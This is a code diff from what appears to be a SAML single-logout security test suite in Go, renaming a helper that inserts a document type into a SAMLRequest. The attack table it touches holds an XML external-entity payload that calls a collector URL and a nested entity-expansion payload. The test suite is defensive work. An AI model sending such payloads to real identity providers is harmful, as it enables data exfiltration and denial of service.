@@ -124,14 +124,14 @@ var logouts = []LogoutAttack{
 		Row: "SLO-13", Name: "external-entity", Rule: "xml-hardened", Binding: idp.BindingPOST, Lure: true, NoCrash: true,
 		Summary: "has a document type with an external entity",
 		send: func(d LogoutDonor, c *simulator.Carriage) error {
-			return withDoctype(c, `<!DOCTYPE x [<!ENTITY % e SYSTEM "`+d.Collector+`">%e;]>`)
+			return carriageWithDoctype(c, `<!DOCTYPE x [<!ENTITY % e SYSTEM "`+d.Collector+`">%e;]>`)
 		},
 	},
 	{
 		Row: "SLO-13", Name: "entity-expansion", Rule: "xml-hardened", Binding: idp.BindingPOST, NoCrash: true,
 		Summary: "has a document type with entities that grow",
 		send: func(_ LogoutDonor, c *simulator.Carriage) error {
-			return withDoctype(c, `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`)
+			return carriageWithDoctype(c, `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`)
 		},
 	},
 	{
@@ -174,8 +174,8 @@ func afterSigning(change func(root *etree.Element) error) func(*idp.Envelope) er
 	}
 }
 
-// withDoctype puts a document type before the message of a form.
-func withDoctype(c *simulator.Carriage, doctype string) error {
+// carriageWithDoctype puts a document type before the message of a form.
+func carriageWithDoctype(c *simulator.Carriage, doctype string) error {
 	xml, err := base64.StdEncoding.DecodeString(c.Form.Get("SAMLRequest"))
 	if err != nil {
 		return err
